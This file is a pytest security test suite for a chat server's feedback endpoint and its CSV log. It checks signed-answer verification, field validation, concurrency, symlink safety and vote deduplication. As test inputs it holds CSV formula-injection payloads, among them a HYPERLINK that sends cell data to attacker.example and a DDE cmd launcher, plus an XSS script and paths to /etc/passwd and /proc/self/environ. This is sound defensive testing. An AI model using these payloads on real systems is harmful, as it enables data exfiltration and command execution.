"""B-* and V-*: ``POST /api/feedback`` and the CSV log it appends to.

A flag is accepted only for an answer this server produced (its signed ``id`` with the exact
conversation); every cell a spreadsheet would run as a formula is written with a leading ``'``.
"""

from __future__ import annotations

import csv
import io
import threading
from typing import Any

import pytest

from tests.security.harness import Server, chat, check, post_json, sse_events

VISITOR = "v_abcdefgh"
CONVERSATION = "c_abcdefgh"


def answer(server: Server, message: str) -> tuple[str, list[dict[str, str]]]:
    """Chats once; returns the answer's signed id and the conversation to flag."""
    resp = check(chat(server, {"message": message}), what="V chat")
    events = sse_events(resp.text)
    name, done = events[-1]
    assert name == "done", events[-1]
    text = "".join(d.get("append", "") for n, d in events if n == "message")
    conversation = [{"role": "user", "content": message}, {"role": "assistant", "content": text}]
    return done["id"], conversation


def flag(server: Server, **fields: Any) -> Any:
    return check(post_json(server, "/api/feedback", fields), what="feedback")


def rows(server: Server) -> list[list[str]]:
    with open(server.flags / "log.csv", newline="", encoding="utf-8") as log:
        return list(csv.reader(log))


@pytest.fixture(scope="module", name="signed")
def _signed(servers: Any) -> tuple[str, list[dict[str, str]]]:
    return answer(servers("echo"), "a question worth flagging")


FORGED = {
    "B-3-random-id": {"id": "p3Kq9vX2aLm.Zx1"},
    "B-3-empty-id": {"id": "x"},
    "B-3-other-conversation": {"conversation": [
        {"role": "user", "content": "other"}, {"role": "assistant", "content": "other"}]},
    "B-3-tampered-answer": {"conversation": [
        {"role": "user", "content": "a question worth flagging"},
        {"role": "assistant", "content": "=HYPERLINK(\"https://attacker.example\")"}]},
    "B-3-extra-turn": {"conversation": [
        {"role": "user", "content": "injected"}, {"role": "assistant", "content": "x"},
        {"role": "user", "content": "a question worth flagging"},
        {"role": "assistant", "content": "a question worth flagging"}]},
    "B-4-id-of-nothing": {"id": "A" * 64},
}  # fmt: skip


@pytest.mark.parametrize("change", FORGED.values(), ids=FORGED.keys())
def test_forged_flags_are_403(change: dict[str, Any], signed: Any, echo: Server) -> None:
    message_id, conversation = signed
    fields = {
        "id": message_id,
        "conversation": conversation,
        "flag": "Like",
        "visitor": VISITOR,
        "conversation_id": CONVERSATION,
        **change,
    }
    resp = flag(echo, **fields)
    assert (resp.status, resp.code) == (403, "unknown_message"), resp.text


INVALID = {
    "B-5-maybe": {"flag": "maybe"},
    "B-5-trailing-space": {"flag": "Like "},
    "B-5-number": {"flag": 1},
    "B-5-true": {"flag": True},
    "B-5-list": {"flag": ["Like"]},
    "B-5-null": {"flag": None},
    "B-5-case": {"flag": "like"},
    "B-6-user-id": {"user_id": "admin"},
    "B-6-timestamp": {"timestamp": "1970-01-01T00:00:00Z"},
    "B-6-ip": {"ip": "10.0.0.1"},
    "B-6-user-agent": {"user_agent": "=cmd"},
    "B-6-visitor-formula": {"visitor": "=1+1"},
    "B-6-visitor-short": {"visitor": "abc"},
    "B-6-visitor-long": {"visitor": "a" * 65},
    "B-6-conversation-id-newline": {"conversation_id": "abcdefgh\n=1"},
    "B-7-files": {"files": ["/dev/urandom"]},
    "B-7-attachment": {"attachment": "/proc/self/environ"},
    "B-7-file-in-conversation": {"conversation": [
        {"role": "user", "content": {"path": "/etc/passwd"}},
        {"role": "assistant", "content": "x"}]},
    "B-8-id-too-long": {"id": "a" * 65},
    "B-8-last-is-user": {"conversation": [
        {"role": "assistant", "content": "x"}, {"role": "user", "content": "x"}]},
    "B-8-one-message": {"conversation": [{"role": "assistant", "content": "x"}]},
    "B-8-surrogate": {"conversation": [
        {"role": "user", "content": "\ud800"}, {"role": "assistant", "content": "x"}]},
    "B-8-entry-over-limit": {"conversation": [
        {"role": "user", "content": "c" * 100_001}, {"role": "assistant", "content": "x"}]},
}  # fmt: skip


@pytest.mark.parametrize("change", INVALID.values(), ids=INVALID.keys())
def test_invalid_flags_are_4xx_and_write_nothing(
    change: dict[str, Any], signed: Any, echo: Server
) -> None:
    message_id, conversation = signed
    before = (echo.flags / "log.csv").read_bytes() if (echo.flags / "log.csv").exists() else b""
    fields = {
        "id": message_id,
        "conversation": conversation,
        "flag": "Like",
        "visitor": VISITOR,
        "conversation_id": CONVERSATION,
        **change,
    }
    resp = flag(echo, **fields)
    assert resp.status in (400, 422), resp.text
    after = (echo.flags / "log.csv").read_bytes() if (echo.flags / "log.csv").exists() else b""
    assert after == before


def test_b8_a_megabyte_comment_is_413(signed: Any, echo: Server) -> None:
    message_id, conversation = signed
    resp = flag(
        echo,
        id=message_id,
        conversation=[{"role": "user", "content": "c" * 1_100_000}, conversation[1]],
        flag="Like",
        visitor=VISITOR,
        conversation_id=CONVERSATION,
    )
    assert (resp.status, resp.code) == (413, "body_too_large")


FORMULAS = {
    "V-1-hyperlink": '=HYPERLINK("https://attacker.example/?x="&A1,"x")',
    "V-1-dde": "+cmd|' /C calc'!A0",
    "V-1-minus": "-2+3",
    "V-1-at": "@SUM(1,1)",
    "V-1-tab": "\t=1+1",
    "V-1-cr": "\r=1+1",
    "V-2-multiline": "line1\r\n=cmd|' /C calc'!A0",
    "V-3-semicolon": "a;=1+1",
    "V-3-comma": "a,=1+1",
    "V-3-tab": "a\t=1",
    "V-5-nul": "a\x00=1",
    "V-6-html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "V-1-quote-break": '","=1+1,"',
}


@pytest.mark.parametrize("message", FORMULAS.values(), ids=FORMULAS.keys())
def test_flagged_rows_are_inert_in_a_spreadsheet(message: str, echo: Server) -> None:
    message_id, conversation = answer(echo, message)
    count = len(rows(echo)) if (echo.flags / "log.csv").exists() else 0
    visitor = "-" + "1" * 9  # allowed by the id pattern, yet starts with a formula trigger
    resp = flag(
        echo,
        id=message_id,
        conversation=conversation,
        flag="Like",
        visitor=visitor,
        conversation_id=CONVERSATION,
    )
    assert resp.status == 200, resp.text
    table = rows(echo)
    header = ["conversation", "index", "flag", "timestamp", "visitor", "conversation_id", "user"]
    assert table[0] == header
    assert len(table) == count + 1 if count else len(table) == 2
    row = table[-1]
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        assert "\x00" not in cell
    assert row[4] == "'" + visitor
    assert row[3].endswith("Z")
    raw = (echo.flags / "log.csv").read_bytes().decode("utf-8")
    for line in raw.split("\r\n"):
        assert not line.startswith(("=", "+", "@", "\t")), line


def test_v7_concurrent_flags_give_one_header_and_every_row(echo: Server) -> None:
    message_id, conversation = answer(echo, "concurrent")
    before = len(rows(echo)) if (echo.flags / "log.csv").exists() else 1
    statuses: list[int] = []

    def one(i: int) -> None:
        resp = post_json(
            echo,
            "/api/feedback",
            {
                "id": message_id,
                "conversation": conversation,
                "flag": ["Like", "Dislike", "Spam", ""][i % 4],
                "visitor": f"visitor{i:04d}",
                "conversation_id": CONVERSATION,
            },
        )
        statuses.append(resp.status)

    threads = [threading.Thread(target=one, args=(i,)) for i in range(40)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert statuses == [200] * 40
    table = rows(echo)
    assert len(table) == before + 40
    assert sum(1 for row in table if row[0] == "conversation") == 1
    assert all(len(row) == 7 for row in table)
    text = (echo.flags / "log.csv").read_text(encoding="utf-8")
    assert list(csv.reader(io.StringIO(text))) == table


def test_v9_a_log_replaced_by_a_symlink_is_never_followed(servers: Any, tmp_path: Any) -> None:
    """V-9: log.csv turned into a symlink to a file elsewhere: 503, the target unchanged."""
    server = servers("echo", "--log-level", "error")  # its own server and flagging dir
    message_id, conversation = answer(server, "symlink")
    victim = server.workdir / "victim.txt"
    victim.write_text("precious\n")
    server.flags.mkdir(parents=True, exist_ok=True)
    (server.flags / "log.csv").unlink(missing_ok=True)
    (server.flags / "log.csv").symlink_to(victim)
    resp = check(
        post_json(server, "/api/feedback", {
            "id": message_id, "conversation": conversation, "flag": "Like",
            "visitor": VISITOR, "conversation_id": CONVERSATION}),
        client_error=False,
        what="V-9",
    )  # fmt: skip
    assert (resp.status, resp.code) == (503, "feedback_unavailable")
    assert victim.read_text() == "precious\n"


def test_b3_a_thousand_identical_votes_are_one_row(echo: Server) -> None:
    """B-3: the same visitor's same flag on one answer, 1,000 times: 200 each, one row stored;
    a changed flag is a new row (the last one wins)."""
    message_id, conversation = answer(echo, "vote once")
    before = len(rows(echo)) if (echo.flags / "log.csv").exists() else 1
    vote = {
        "id": message_id,
        "conversation": conversation,
        "flag": "Like",
        "visitor": "v_onevoter",
        "conversation_id": CONVERSATION,
    }
    statuses: list[int] = []

    def send(count: int) -> None:
        for _ in range(count):
            statuses.append(post_json(echo, "/api/feedback", vote).status)

    threads = [threading.Thread(target=send, args=(100,)) for _ in range(10)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert statuses == [200] * 1000
    assert len(rows(echo)) == before + 1
    assert flag(echo, **{**vote, "flag": "Dislike"}).status == 200
    table = rows(echo)
    assert len(table) == before + 2 and table[-1][2] == "Dislike"
